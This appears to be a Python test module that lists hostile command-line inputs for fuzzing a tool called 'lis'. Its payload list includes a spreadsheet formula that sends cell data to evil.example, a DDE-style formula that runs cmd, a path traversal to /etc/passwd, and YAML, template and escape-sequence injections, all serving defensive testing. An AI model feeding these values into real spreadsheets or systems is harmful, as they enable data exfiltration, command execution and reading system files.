"""Hostile command-line input: what a careless or hostile user may type after any `lis` command.

The shared output-context payloads (`tests.hostile.PAYLOADS`, when that module has them) are added,
so the command sweep grows with the corpus.
"""

from __future__ import annotations

from tests import hostile

COMMAND_PAYLOADS: list[str] = [
    "", " ", "Ekonomi: ny", "#1 System", "Ja", "null", "[lista]", "{a: 1}", "*alias", "&ankare x", "!tagg x",
    "Rad\n    leverantör: Ond AB", "Rad\n  - Ond: https://evil.example", "a\r\nb", "ord\vord\0", "a\u2028b",
    '=HYPERLINK("http://evil.example/?"&A2,"Klicka")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
    "1_000", "0x1F", "1.5e+3", "3000", "-5", "0", "1999", "2027.5", "abc", "9" * 300,
    "{{ 7*7 }}", "{% if %}", "\x1b[31mröd\x1b[0m", "\u202eevil", "900101-1239",
    "../../../../etc/passwd", "/etc/passwd", "/dev/null/x", "/proc/x", "finns-inte.xlsx", "data", "mkdocs.yml",
    "--help", "-x", "--ersatt",
]

PAYLOADS: list[str] = [*COMMAND_PAYLOADS, *getattr(hostile, "PAYLOADS", {}).values()]
